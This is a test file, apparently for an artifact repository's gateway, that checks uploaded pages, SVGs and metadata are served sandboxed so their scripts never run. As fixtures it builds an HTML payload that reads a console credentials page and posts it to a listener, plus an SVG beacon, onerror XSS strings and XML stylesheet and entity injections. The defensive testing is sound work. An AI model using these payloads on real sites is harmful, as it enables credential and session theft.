// Uploaded content is served inert through the gateway: every /repository/ answer of every
// format (GET and HEAD, refusals included) carries a sandboxing Content-Security-Policy and
// nosniff, and whatever a browser would render or run is sent as an attachment unless
// svc.artifacts.separate-origin says artifacts have an origin of their own. In a real browser,
// signed in to the console as an administrator, an uploaded page's script never runs.
import { createServer, type Server } from "node:http";
import type { AddressInfo } from "node:net";
import { createHash, randomBytes } from "node:crypto";
import type { Browser, Page } from "playwright-core";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { launchChromium, signInDev } from "./browser.js";
import { uploadForm } from "./pypi-clients.js";
import { startSuite, type Suite } from "./suite.js";

const CSP = "sandbox; default-src 'none'";

let s: Suite;
let browser: Browser;
let page: Page;
/** What uploaded scripts managed to send home (they must send nothing). */
let listener: Server;
const heard: string[] = [];
let home = "";

const put = (path: string, body: string | Uint8Array, headers: Record<string, string> = {}) => s.call("PUT", path, { key: s.bootstrapKey, body, headers });
const get = (path: string, method = "GET", key = s.bootstrapKey) => s.call(method, path, { key });

/** A page whose script, if it ever runs, renames the page, reads a console page and reports both home. */
const evilHtml = () => `<!doctype html><html><head><title>readme</title></head><body><p>readme</p><script>
document.title = "ran";
new Image().src = "${home}/ran?html";
fetch("/ui/credentials").then((r) => r.text()).then((t) => fetch("${home}/stolen", { method: "POST", mode: "no-cors", body: t }));
</script></body></html>`;
const evilSvg = () => `<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10"><title>logo</title><script>
document.title = "ran";
fetch("${home}/ran?svg", { mode: "no-cors" });
</script><rect width="10" height="10"/></svg>`;

function expectInert(res: Response, saved: string | false) {
  expect(res.headers.get("content-security-policy")).toBe(CSP);
  expect(res.headers.get("x-content-type-options")).toBe("nosniff");
  if (saved === false) expect(res.headers.get("content-disposition")).toBeNull();
  else expect(res.headers.get("content-disposition")).toBe(saved);
}

/** GET and HEAD of `path`, each checked by expectInert; the GET's answer. */
async function expectServedInert(path: string, saved: string | false, status = 200): Promise<Response> {
  const head = await get(path, "HEAD");
  expect(head.status, `HEAD ${path}`).toBe(status);
  expectInert(head, saved);
  const res = await get(path);
  expect(res.status, `GET ${path}`).toBe(status);
  expectInert(res, saved);
  return res;
}

beforeAll(async () => {
  listener = createServer((req, res) => {
    heard.push(`${req.method} ${req.url}`);
    res.end();
  });
  await new Promise<void>((r) => listener.listen(0, "127.0.0.1", r));
  home = `http://127.0.0.1:${(listener.address() as AddressInfo).port}`;
  s = await startSuite({ env: { SVC_PROFILE: "dev" } });
  await Promise.all([s.createRepository("npm-inert", "npm"), s.createRepository("maven-inert", "maven"), s.createRepository("pypi-inert", "pypi")]);
  browser = await launchChromium();
  const context = await browser.newContext({ acceptDownloads: true });
  page = await signInDev(await context.newPage(), s.gatewayUrl, "admin");
});

afterAll(async () => {
  await browser?.close();
  await s?.stop();
  await new Promise((r) => listener?.close(r));
});

describe("artifacts are served inert", () => {
  it("raw: a page, an image, a document or a script is sent as an attachment, sandboxed and not sniffed; a jar or text only sandboxed", async () => {
    const files: [string, string | Uint8Array, string | false][] = [
      ["readme.html", evilHtml(), `attachment; filename="readme.html"`],
      ["page.htm", evilHtml(), `attachment; filename="page.htm"`],
      ["page.xhtml", evilHtml(), `attachment; filename="page.xhtml"`],
      ["logo.svg", evilSvg(), `attachment; filename="logo.svg"`],
      ["data.xml", "<a/>", `attachment; filename="data.xml"`],
      ["app.js", "alert(1)", `attachment; filename="app.js"`],
      ["app.mjs", "alert(1)", `attachment; filename="app.mjs"`],
      ["doc.pdf", "%PDF-1.4", `attachment; filename="doc.pdf"`],
      // No type known for it: a browser might sniff one.
      ["blob", evilHtml(), `attachment; filename="blob"`],
      ["plain.jar", randomBytes(100), false],
      ["notes.txt", evilHtml(), false],
    ];
    for (const [name, body] of files) expect((await put(`/repository/default/inert/${name}`, body, { "content-type": "text/html" })).status).toBe(201);
    for (const [name, , saved] of files) await expectServedInert(`/repository/default/inert/${name}`, saved);

    // Larger than the service reads whole: streamed through the gateway's download pool.
    const big = `${evilHtml()}${"<!-- padding -->".repeat(20_000)}`;
    expect((await put("/repository/default/inert/big.html", big)).status).toBe(201);
    const res = await expectServedInert("/repository/default/inert/big.html", `attachment; filename="big.html"`);
    expect(await res.text()).toBe(big);

    // A name that is not plain ASCII keeps a safe fallback and is given exactly beside it.
    expect((await put(`/repository/default/inert/${encodeURIComponent('ré"sumé.html')}`, evilHtml())).status).toBe(201);
    await expectServedInert(`/repository/default/inert/${encodeURIComponent('ré"sumé.html')}`, `attachment; filename="r__sum_.html"; filename*=UTF-8''r%C3%A9%22sum%C3%A9.html`);
  });

  it("refusals and missing files under /repository/ are inert too", async () => {
    await expectServedInert("/repository/default/inert/missing.html", `attachment; filename="missing.html"`, 404);
    const refused = await get("/repository/default/inert/readme.html", "GET", "svck_default.not-a-key");
    expect(refused.status).toBe(401);
    expectInert(refused, `attachment; filename="readme.html"`);
    const upload = await s.call("PUT", "/repository/default/inert/denied.html", { body: evilHtml() });
    expect(upload.status).toBe(401);
    expectInert(upload, `attachment; filename="denied.html"`);
  });

  it("npm: the package document and its tarball are sandboxed and not sniffed", async () => {
    const tgz = randomBytes(200);
    const doc = {
      name: "inert-pkg",
      versions: { "1.0.0": { name: "inert-pkg", version: "1.0.0", readme: evilHtml() } },
      "dist-tags": { latest: "1.0.0" },
      _attachments: { "inert-pkg-1.0.0.tgz": { content_type: "application/octet-stream", data: tgz.toString("base64"), length: tgz.length } },
    };
    expect((await s.call("PUT", "/repository/npm-inert/inert-pkg", { key: s.bootstrapKey, body: doc })).status).toBe(201);
    const document = await expectServedInert("/repository/npm-inert/inert-pkg", false);
    expect(document.headers.get("content-type")).toMatch(/^application\/json/);
    const tarball = await get("/repository/npm-inert/inert-pkg/-/inert-pkg-1.0.0.tgz");
    expect(tarball.status).toBe(200);
    expect(Buffer.from(await tarball.arrayBuffer()).equals(tgz)).toBe(true);
    expect(tarball.headers.get("content-security-policy")).toBe(CSP);
    expect(tarball.headers.get("x-content-type-options")).toBe("nosniff");
    await expectServedInert("/repository/npm-inert/inert-pkg/-/readme.html", `attachment; filename="readme.html"`, 404);
  });

  it("maven: a site page is an attachment, a jar only sandboxed, the server's metadata an attachment", async () => {
    const dir = "/repository/maven-inert/com/acme/site/1.0";
    expect((await put(`${dir}/site-1.0.jar`, randomBytes(300))).status).toBe(201);
    expect((await put(`${dir}/site-1.0-site.html`, evilHtml())).status).toBe(201);
    await expectServedInert(`${dir}/site-1.0.jar`, false);
    await expectServedInert(`${dir}/site-1.0-site.html`, `attachment; filename="site-1.0-site.html"`);
    await expectServedInert("/repository/maven-inert/com/acme/site/maven-metadata.xml", `attachment; filename="maven-metadata.xml"`);
  });

  it("maven: a group's maven-metadata.xml is kept only when it is a plugin list; one carrying anything else is refused with 400 and nothing is stored", async () => {
    const path = "/repository/maven-inert/org/acme/maven-metadata.xml";
    const plugins = (extra = "", prolog = '<?xml version="1.0" encoding="UTF-8"?>') =>
      `${prolog}\n<metadata>\n  <plugins>\n    <plugin>\n      <name>Acme Plugin</name>\n      <prefix>acme</prefix>\n      <artifactId>acme-maven-plugin</artifactId>\n    </plugin>${extra}\n  </plugins>\n</metadata>\n`;
    const hostile = [
      plugins(`<script xmlns="http://www.w3.org/1999/xhtml">fetch("/ui/credentials")</script>`),
      plugins(`<html:img xmlns:html="http://www.w3.org/1999/xhtml" src="x" onerror="alert(1)"/>`),
      plugins("", '<?xml version="1.0"?><?xml-stylesheet type="text/xsl" href="/repository/default/inert/evil.xsl"?>'),
      plugins("", '<?xml version="1.0"?><!DOCTYPE metadata [<!ENTITY e "x">]>'),
      plugins("<plugin>"),
    ];
    for (const body of hostile) {
      const refused = await put(path, body);
      expect(refused.status, body).toBe(400);
      expect(refused.headers.get("content-type")).toMatch(/^text\/plain/);
      expect(await refused.text()).toMatch(/a group's maven-metadata\.xml is its plugin list/);
      expect((await get(path)).status).toBe(404);
    }
    expect((await put(path, plugins())).status).toBe(201);
    const kept = await expectServedInert(path, `attachment; filename="maven-metadata.xml"`);
    expect(await kept.text()).toBe(plugins());
  });

  it("pypi: a distribution and the simple index are sandboxed, and the index (HTML) is an attachment", async () => {
    const content = randomBytes(500);
    const form = uploadForm(
      { name: "inert_pkg", version: "1.0", filetype: "bdist_wheel", pyversion: "py3", sha256_digest: createHash("sha256").update(content).digest("hex") },
      { name: "inert_pkg-1.0-py3-none-any.whl", content },
    );
    const up = await s.call("POST", "/repository/pypi-inert/", { key: s.bootstrapKey, headers: { "content-type": form.contentType }, body: form.body });
    expect(up.status, await up.text()).toBe(200);
    const index = await expectServedInert("/repository/pypi-inert/simple/inert-pkg/", `attachment; filename="download"`);
    expect(index.headers.get("content-type")).toMatch(/html/);
    const href = /href="([^"#]+)/.exec(await index.text())![1]!;
    const wheel = new URL(href, `${s.gatewayUrl}/repository/pypi-inert/simple/inert-pkg/`).pathname;
    const file = await get(wheel);
    expect(file.status).toBe(200);
    expect(Buffer.from(await file.arrayBuffer()).equals(content)).toBe(true);
    expect(file.headers.get("content-security-policy")).toBe(CSP);
    expect(file.headers.get("x-content-type-options")).toBe("nosniff");
  });

  it("in Chromium, signed in as an administrator, opening an uploaded page or SVG runs none of its script", async () => {
    expect((await put("/repository/default/browser/readme.html", evilHtml())).status).toBe(201);
    expect((await put("/repository/default/browser/logo.svg", evilSvg())).status).toBe(201);
    const saved: string[] = [];
    page.on("download", (d) => saved.push(d.suggestedFilename()));
    for (const name of ["readme.html", "logo.svg"]) {
      // A download aborts the navigation; a page that renders loads.
      await page.goto(`${s.gatewayUrl}/repository/default/browser/${name}`).catch(() => undefined);
      await page.waitForTimeout(1_500);
      expect(heard).toEqual([]);
      expect(await page.title()).not.toBe("ran");
    }
    expect(saved).toEqual(["readme.html", "logo.svg"]);
    // The console is still the administrator's, untouched.
    await page.goto(`${s.gatewayUrl}/ui/`);
    expect(await page.textContent("#signed-in-id")).toBe("dev/admin");
  });
});

describe("svc.artifacts.separate-origin", () => {
  beforeAll(async () => {
    await s.stopService("gateway");
    await s.startService("gateway", { SVC_ARTIFACTS_SEPARATE_ORIGIN: "true" });
  });

  it("no attachment is forced, the sandbox and nosniff stay; in Chromium the page shows and its script does not run", async () => {
    await expectServedInert("/repository/default/inert/readme.html", false);
    await expectServedInert("/repository/default/inert/logo.svg", false);
    await expectServedInert("/repository/maven-inert/com/acme/site/1.0/site-1.0-site.html", false);
    await expectServedInert("/repository/default/inert/missing.html", false, 404);

    // Not the files the browser saw before: it would keep their cached headers on revalidation.
    expect((await put("/repository/default/open/readme.html", evilHtml())).status).toBe(201);
    expect((await put("/repository/default/open/logo.svg", evilSvg())).status).toBe(201);
    for (const [name, title] of [["readme.html", "readme"], ["logo.svg", "logo"]] as const) {
      const res = await page.goto(`${s.gatewayUrl}/repository/default/open/${name}`);
      expect(res?.status()).toBe(200);
      await page.waitForTimeout(1_500);
      expect(heard).toEqual([]);
      expect(await page.title()).toBe(title);
    }
  });
});
